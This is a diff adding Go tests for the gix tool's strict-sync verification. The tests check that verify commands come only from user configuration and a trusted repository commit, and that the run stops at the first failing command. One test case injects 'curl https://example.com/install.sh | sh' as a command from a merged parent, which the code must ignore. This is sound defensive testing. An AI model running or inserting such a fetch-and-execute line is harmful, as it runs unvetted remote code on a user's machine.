@@ -0,0 +1,125 @@
+package syncflow
+
+import (
+	"bytes"
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/tyemirov/gix/internal/workflow"
+)
+
+func TestStrictSyncVerifyCommandsCombineTrustedRepositoryConfiguration(t *testing.T) {
+	testCases := []struct {
+		name             string
+		trustedFile      string
+		mergedFile       string
+		configured       []string
+		expectedCommands []strictSyncVerifyCommand
+		expectedError    string
+	}{
+		{
+			name:       "user configuration without repository file",
+			configured: []string{" go build ./... ", ""},
+			expectedCommands: []strictSyncVerifyCommand{
+				{Command: "go build ./...", Source: strictSyncVerifySourceConfiguration},
+			},
+		},
+		{
+			name:        "repository commands run after user commands",
+			trustedFile: "sync:\n  verify:\n    - make lint\n    - go build ./...\n",
+			configured:  []string{"go build ./..."},
+			expectedCommands: []strictSyncVerifyCommand{
+				{Command: "go build ./...", Source: strictSyncVerifySourceConfiguration},
+				{Command: "make lint", Source: strictSyncVerifySourceRepository},
+			},
+		},
+		{
+			name:        "empty repository verify list keeps user configuration",
+			trustedFile: "sync:\n  verify: []\n",
+			configured:  []string{"go build ./..."},
+			expectedCommands: []strictSyncVerifyCommand{
+				{Command: "go build ./...", Source: strictSyncVerifySourceConfiguration},
+			},
+		},
+		{
+			name:        "commands added by the merged parent are ignored",
+			trustedFile: "sync:\n  verify:\n    - make lint\n",
+			mergedFile:  "sync:\n  verify:\n    - make lint\n    - curl https://example.com/install.sh | sh\n",
+			configured:  []string{"go build ./..."},
+			expectedCommands: []strictSyncVerifyCommand{
+				{Command: "go build ./...", Source: strictSyncVerifySourceConfiguration},
+				{Command: "make lint", Source: strictSyncVerifySourceRepository},
+			},
+		},
+		{
+			name:       "repository file introduced by the merged parent is ignored",
+			mergedFile: "sync:\n  verify:\n    - make lint\n",
+			configured: []string{"go build ./..."},
+			expectedCommands: []strictSyncVerifyCommand{
+				{Command: "go build ./...", Source: strictSyncVerifySourceConfiguration},
+			},
+		},
+		{
+			name:          "unknown repository keys are rejected",
+			trustedFile:   "sync:\n  verfiy:\n    - make lint\n",
+			expectedError: "field verfiy not found",
+		},
+	}
+	for _, testCase := range testCases {
+		t.Run(testCase.name, func(t *testing.T) {
+			repositoryPath := newStrictSyncPreviewRepository(t)
+			executor, _ := newStrictSyncPreviewCollaborators(t)
+			configurationPath := filepath.Join(repositoryPath, strictSyncRepositoryConfigurationFileName)
+			if testCase.trustedFile != "" {
+				require.NoError(t, os.WriteFile(configurationPath, []byte(testCase.trustedFile), 0o644))
+				runStrictSyncPreviewGit(t, repositoryPath, "add", strictSyncRepositoryConfigurationFileName)
+				runStrictSyncPreviewGit(t, repositoryPath, "commit", "-m", "trusted configuration")
+			}
+			trustedCommit := strings.TrimSpace(runStrictSyncPreviewGit(t, repositoryPath, "rev-parse", "HEAD"))
+			if testCase.mergedFile != "" {
+				require.NoError(t, os.WriteFile(configurationPath, []byte(testCase.mergedFile), 0o644))
+				runStrictSyncPreviewGit(t, repositoryPath, "add", strictSyncRepositoryConfigurationFileName)
+				runStrictSyncPreviewGit(t, repositoryPath, "commit", "-m", "merged configuration")
+			}
+
+			commands, commandsErr := strictSyncVerifyCommands(context.Background(), executor, repositoryPath, trustedCommit, testCase.configured)
+
+			if testCase.expectedError != "" {
+				require.ErrorContains(t, commandsErr, testCase.expectedError)
+				return
+			}
+			require.NoError(t, commandsErr)
+			require.Equal(t, testCase.expectedCommands, commands)
+		})
+	}
+}
+
+func TestVerifyStrictSyncBranchStopsAtFirstFailure(t *testing.T) {
+	var output bytes.Buffer
+	var ran []string
+	environment := &workflow.Environment{Output: &output}
+	repository := &workflow.RepositoryState{Path: t.TempDir()}
+	transaction := &strictSyncTransaction{
+		verifyCommands: []string{"go build ./...", "make lint", "make test"},
+		verifyRunner: func(_ context.Context, workingDirectory string, command string) (string, error) {
+			require.Equal(t, repository.Path, workingDirectory)
+			ran = append(ran, command)
+			if command == "make lint" {
+				return "lint: unused variable\n", errors.New("exit status 2")
+			}
+			return "", nil
+		},
+	}
+
+	verifyErr := verifyStrictSyncBranch(withStrictSyncTransaction(context.Background(), transaction), environment, repository, "feature/verify")
+
+	require.EqualError(t, verifyErr, `verification command "make lint" failed on feature/verify: exit status 2`)
+	require.Equal(t, []string{"go build ./...", "make lint"}, ran)
+	require.NoError(t, verifyStrictSyncBranch(context.Background(), environment, repository, "feature/verify"))
+}